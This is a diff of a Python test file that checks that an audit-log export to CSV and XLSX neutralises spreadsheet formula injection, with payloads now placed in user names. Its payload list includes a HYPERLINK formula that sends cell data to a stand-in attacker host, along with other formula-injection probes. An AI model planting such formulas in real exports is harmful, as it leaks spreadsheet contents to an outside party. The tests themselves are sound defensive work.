@@ -201,10 +201,12 @@ PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A2,"x")', "+1+2", "-3+4", "@SUM(
 
 
 @pytest.fixture()
-def hostile(trail, db):
-    """Rows whose typed parts start like formulas (a guessed user name, a comment)."""
+def hostile(trail, factory, db):
+    """Rows whose typed parts start like formulas: people's names (typed by an admin or imported) and a
+    reviewer's comment."""
     for n, payload in enumerate(PAYLOADS):
-        _event(db, None, "auth.login_failed", f"user:{payload}", T0 + timedelta(days=10, minutes=n),
+        person = factory.user("liaison", unit=trail.units[0], name=payload)
+        _event(db, person, "auth.login_failed", f"user:{person.id}", T0 + timedelta(days=10, minutes=n),
                reason=payload)
     _transition(db, trail.reviewer, T0 + timedelta(days=11), contribution=trail.contribution, event_="approve",
                 from_state="submitted", to_state="approved", comment="=1+2")
@@ -234,9 +236,9 @@ def test_csv_export(admin_client, hostile, db):
     # No cell starts a formula; the typed text is all there behind the quote.
     for line in rows[1:]:
         assert not any(cell.startswith(("=", "+", "-", "@")) for cell in line), line
-    targets = [line[6] for line in rows[1:]]
+    names = [line[2] for line in rows[1:]]
     for payload in PAYLOADS:
-        assert f"'user:{payload}" not in targets and f"user:{payload}" in targets
+        assert "'" + payload in names  # shown as typed, behind the quote that keeps it text
     details = [line[8] for line in rows[1:]]
     assert details[0] == "待审核 → 已通过；意见：=1+2"  # only a leading = is a formula
     assert f"原因：{PAYLOADS[3]}" in details
@@ -264,9 +266,9 @@ def test_xlsx_export(admin_client, hostile, db):
 def test_xlsx_keeps_formula_like_text_as_text(admin_client, hostile, db):
     response = admin_client.get("/admin/audit/export.xlsx", query_string={"action": "auth.login_failed"})
     sheet = load_workbook(io.BytesIO(response.data))["审计日志"]
-    targets = {c.value: c.data_type for c in next(sheet.iter_cols(min_col=7, max_col=7)) if c.row > 1}
+    names = {c.value: c.data_type for c in next(sheet.iter_cols(min_col=3, max_col=3)) if c.row > 1}
     for payload in PAYLOADS:
-        assert targets[f"user:{payload}"] == "s"
+        assert names[payload] == "s"  # exactly as typed, and text
 
 
 def test_export_over_the_limit_is_refused_with_a_message(app, admin_client, trail, db):
